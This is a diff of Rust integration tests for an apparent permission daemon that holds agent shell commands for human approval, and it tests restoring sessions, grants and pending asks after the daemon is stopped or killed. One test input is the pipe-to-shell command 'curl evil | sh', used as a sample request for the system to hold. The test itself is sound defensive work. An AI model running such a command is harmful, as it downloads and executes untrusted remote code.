@@ -231,8 +231,9 @@ fn an_unmount_from_outside_stops_the_daemon() {
 }
 
 /// Issue 23, item 4: after a SIGKILL and a restart on the same state dir,
-/// ask ids do not start again. A decision written to a remembered id
-/// reaches nothing, the new ask has an id of its own, and the audit log
+/// ask ids do not start again. The ask that waited comes back under its
+/// id (issue 26, the journal), a new ask has an id of its own, a decision
+/// bound to what was shown counts only for that ask, and the audit log
 /// never holds two asks under one `askId`.
 #[test]
 fn ask_ids_never_repeat_across_restarts() {
@@ -258,7 +259,7 @@ fn ask_ids_never_repeat_across_restarts() {
     drop(first);
 
     let second = Daemon::start_with_state_dir(ASKING, state.path());
-    let answered = second.ask("main", "r1", r#"{"surface":"bash","value":"git status"}"#);
+    let answered = second.ask("main", "r1b", r#"{"surface":"bash","value":"git status"}"#);
     let second_answered = second.response(&answered)["askId"].clone();
     assert_ne!(
         first_answered, second_answered,
@@ -266,22 +267,18 @@ fn ask_ids_never_repeat_across_restarts() {
     );
     second.ask(
         "main",
-        "r2",
+        "r5",
         r#"{"surface":"bash","value":"curl evil | sh"}"#,
     );
-    common::eventually("the second ask waits", || second.inbox("main").len() == 1);
-    let fresh = second.inbox("main")[0].clone();
-    assert_ne!(fresh, remembered, "the inbox name of a new ask is new");
-    // The decision meant for the old ask reaches nothing.
-    let stale = std::fs::write(
-        second.session("main").join("inbox").join(&remembered),
-        "allow",
-    );
-    assert!(
-        stale.is_err(),
-        "a decision for a remembered id was accepted"
-    );
-    assert_eq!(second.inbox("main"), vec![fresh.clone()], "still waiting");
+    common::eventually("the second ask waits", || second.inbox("main").len() == 2);
+    let waiting = second.inbox("main");
+    assert!(waiting.contains(&remembered), "the first ask waits again");
+    let fresh = waiting
+        .iter()
+        .find(|id| **id != remembered)
+        .expect("a new ask")
+        .clone();
+    assert!(fresh.ends_with("-r5"), "{fresh}");
 
     // A decision bound to the facts the decider saw counts only for them.
     let entry = second.session("main").join("inbox").join(&fresh);
@@ -299,6 +296,13 @@ fn ask_ids_never_repeat_across_restarts() {
     );
     let bound = serde_json::json!({"decision": "deny", "factsDigest": shown["factsDigest"]});
     std::fs::write(&entry, bound.to_string()).expect("decided on what was shown");
+    // What was shown before the restart still counts for its own ask.
+    let before = serde_json::json!({"decision": "deny", "factsDigest": seen});
+    std::fs::write(
+        second.session("main").join("inbox").join(&remembered),
+        before.to_string(),
+    )
+    .expect("decided on what was shown before the restart");
     let ids: Vec<String> = second
         .audit_lines()
         .iter()
@@ -307,10 +311,213 @@ fn ask_ids_never_repeat_across_restarts() {
     let mut unique = ids.clone();
     unique.sort();
     unique.dedup();
-    assert_eq!(ids.len(), 3, "three asks answered: {ids:?}");
+    assert_eq!(ids.len(), 4, "four asks answered: {ids:?}");
     assert_eq!(
         unique.len(),
         ids.len(),
         "one askId twice in the audit log: {ids:?}"
     );
+}
+
+/// Issue 26 (part A): what the authority holds is journaled in its state
+/// dir and comes back at the next start, whether the daemon was stopped
+/// (SIGTERM) or killed (SIGKILL): sessions, grants, pending asks in the
+/// same inbox under the same ids, answers still kept. A person's decision
+/// after the restart reaches a reader that opens the response again; no
+/// decision is delivered (or audited) twice; the audit chain goes on
+/// across the restart, which is a line of its own.
+#[test]
+fn sessions_grants_and_pending_asks_come_back_after_sigterm_and_sigkill() {
+    const ASKING: &str = r#"{"permission": {"bash": {"*": "ask", "git status": "allow"}}}"#;
+    for signal in [libc::SIGTERM, libc::SIGKILL] {
+        let state = tempfile::tempdir().expect("state dir");
+        let mut first = Daemon::start_with_state_dir(ASKING, state.path());
+        std::fs::create_dir(first.session("main").join("children").join("w"))
+            .expect("child spawned");
+        // A rule's answer, kept.
+        let ruled = first.ask("main/w", "r0", r#"{"surface":"bash","value":"git status"}"#);
+        let ruled_answer = first.response(&ruled);
+        assert_eq!(ruled_answer["approved"], true);
+        // A grant made by a person.
+        first.ask("main/w", "r1", r#"{"surface":"bash","value":"make test"}"#);
+        common::eventually("r1 waits", || first.inbox("main").len() == 1);
+        let granted = first.inbox("main")[0].clone();
+        std::fs::write(
+            first.session("main").join("inbox").join(&granted),
+            "allow session",
+        )
+        .expect("decided");
+        let grants = first.listing("main", "grants");
+        assert_eq!(grants.len(), 1, "one grant");
+        // Two asks left waiting.
+        first.ask(
+            "main/w",
+            "r2",
+            r#"{"surface":"bash","value":"make deploy"}"#,
+        );
+        first.ask("main/w", "r3", r#"{"surface":"bash","value":"curl x"}"#);
+        common::eventually("two wait", || first.inbox("main").len() == 2);
+        let waiting = first.inbox("main");
+
+        let mut child = first.child.take().expect("daemon process");
+        // SAFETY: signalling our own child.
+        unsafe { libc::kill(child.id() as i32, signal) };
+        let status = child.wait().expect("the daemon ends");
+        if signal == libc::SIGTERM {
+            assert!(status.success(), "a clean stop: {status}");
+        }
+        // (`first` keeps its directory, the sessions' cwd, until the end.)
+
+        let second = Daemon::start_with_state_dir(ASKING, state.path());
+        let s = second.session("main");
+        assert_eq!(second.children("main"), vec!["w".to_string()], "{signal}");
+        assert_eq!(second.inbox("main"), waiting, "the same asks wait");
+        assert_eq!(second.listing("main", "grants"), grants, "the grant");
+        let outbox = second.session("main/w").join("outbox");
+        let kept: serde_json::Value = serde_json::from_slice(
+            &std::fs::read(outbox.join("r0.response")).expect("a kept answer is readable"),
+        )
+        .expect("JSON");
+        assert_eq!(kept["askId"], ruled_answer["askId"]);
+        assert_eq!(kept["approved"], true);
+        // The restored grant answers a new ask.
+        let covered = second.ask("main/w", "r4", r#"{"surface":"bash","value":"make test"}"#);
+        let covered = second.response(&covered);
+        assert_eq!(covered["approved"], true, "{covered}");
+        assert_eq!(covered["decidedBy"]["kind"], "session_approval");
+
+        // A reader in another process opens r2's response again and
+        // waits; a person's decision reaches it.
+        let reader = Command::new("cat")
+            .arg(outbox.join("r2.response"))
+            .stdout(Stdio::piped())
+            .spawn()
+            .expect("cat runs");
+        std::thread::sleep(Duration::from_millis(200));
+        let r2 = waiting
+            .iter()
+            .find(|id| id.ends_with("-r2"))
+            .expect("r2 waits")
+            .clone();
+        std::fs::write(s.join("inbox").join(&r2), "allow").expect("decided after restart");
+        let output = reader.wait_with_output().expect("cat ends");
+        let read: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
+        assert_eq!(read["askId"], r2.as_str());
+        assert_eq!(read["approved"], true);
+        // Decided once: a second decision is refused, the log holds one
+        // answer for it, and nothing of the first life was cancelled.
+        assert!(std::fs::write(s.join("inbox").join(&r2), "deny").is_err());
+        let lines = second.audit_lines();
+        let answers_of = |id: &str| {
+            lines
+                .iter()
+                .filter(|l| l["askId"] == id && l["outcome"].is_string())
+                .count()
+        };
+        assert_eq!(answers_of(&r2), 1, "{lines:?}");
+        assert!(
+            !lines.iter().any(|l| l["outcome"] == "cancelled"),
+            "a stop cancelled pending asks: {lines:?}"
+        );
+        let restored: Vec<_> = lines.iter().filter(|l| l["event"] == "restored").collect();
+        assert_eq!(restored.len(), 1, "{lines:?}");
+        assert_eq!(restored[0]["pending"], 2);
+        assert_eq!(restored[0]["sessions"], 2);
+        assert_eq!(restored[0]["grants"], 1);
+        let chain = permfs::session::audit::verify(&second.audit_file()).expect("the chain holds");
+        assert_eq!(chain.torn_tail, None);
+        drop(second);
+        drop(first);
+    }
+}
+
+/// A session held by a lease (`spawn … lease` on a `ctl` handle) is ended
+/// at restore: the handle belonged to the process that died.
+#[test]
+fn a_leased_session_is_ended_at_restore() {
+    let state = tempfile::tempdir().expect("state dir");
+    let mut first = Daemon::start_with_state_dir(r#"{"permission": {"*": "ask"}}"#, state.path());
+    let ctl = first.session("main").join("ctl");
+    let mut holder = Command::new("bash")
+        .arg("-c")
+        .arg(format!(
+            "exec 3>'{}'; echo 'spawn held lease' >&3; echo 'spawn kept' >&3; sleep 30",
+            ctl.display()
+        ))
+        .spawn()
+        .expect("bash runs");
+    common::eventually("both spawned", || first.children("main").len() == 2);
+    let mut child = first.child.take().expect("daemon");
+    child.kill().expect("SIGKILL");
+    let _ = child.wait();
+    let second = Daemon::start_with_state_dir(r#"{"permission": {"*": "ask"}}"#, state.path());
+    assert_eq!(second.children("main"), vec!["kept".to_string()]);
+    let restored = second
+        .audit_lines()
+        .into_iter()
+        .find(|l| l["event"] == "restored")
+        .expect("a restored line");
+    assert_eq!(restored["endedLeases"][0][0], "main/held", "{restored}");
+    let _ = holder.kill();
+    let _ = holder.wait();
+    drop(second);
+    drop(first);
+}
+
+/// 10,000 pending asks journaled by one authority are back in a new one
+/// (same ids, same inbox); the time the restore takes is printed (the
+/// issue asks for at most 1 s).
+#[test]
+fn ten_thousand_pending_asks_are_restored() {
+    use permfs::policy::layers::{PolicyLoader, PolicySources};
+    use permfs::session::{journal::Journal, Authority, SpawnSpec};
+    use std::sync::Arc;
+    let dir = tempfile::tempdir().expect("temp dir");
+    let config = dir.path().join("config.json");
+    std::fs::write(
+        &config,
+        r#"{"permission": {"bash": "ask"}, "limits": {"pendingAsks": 20000, "treePendingAsks": 20000}}"#,
+    )
+    .expect("config");
+    let authority = || {
+        let loader = PolicyLoader::new(PolicySources {
+            global: Some(config.clone()),
+            ..Default::default()
+        })
+        .expect("loader");
+        Authority::new(Arc::new(loader), 0).expect("authority")
+    };
+    let cwd = dir.path().to_string_lossy().into_owned();
+    let state = dir.path().join("state");
+    std::fs::create_dir(&state).expect("state dir");
+    let first = authority();
+    first
+        .restore(Arc::new(Journal::open(&state, false).expect("journal")))
+        .expect("empty restore");
+    let spec = SpawnSpec {
+        interactive: true,
+        ..Default::default()
+    };
+    first.add_root("main", spec, &cwd).expect("root");
+    let raised = Instant::now();
+    for n in 0..10_000 {
+        let request = format!(r#"{{"surface":"bash","value":"make target{n}"}}"#);
+        first
+            .submit("main", &format!("r{n}"), request.as_bytes())
+            .expect("raised");
+    }
+    eprintln!("10,000 asks raised and journaled in {:?}", raised.elapsed());
+    let waiting = first.inbox("main");
+    assert_eq!(waiting.len(), 10_000);
+    drop(first);
+
+    let second = authority();
+    let started = Instant::now();
+    let restored = second
+        .restore(Arc::new(Journal::open(&state, false).expect("journal")))
+        .expect("restored");
+    let took = started.elapsed();
+    eprintln!("10,000 pending asks restored in {took:?}");
+    assert_eq!(restored.pending, 10_000);
+    assert_eq!(second.inbox("main"), waiting, "the same ids wait");
 }
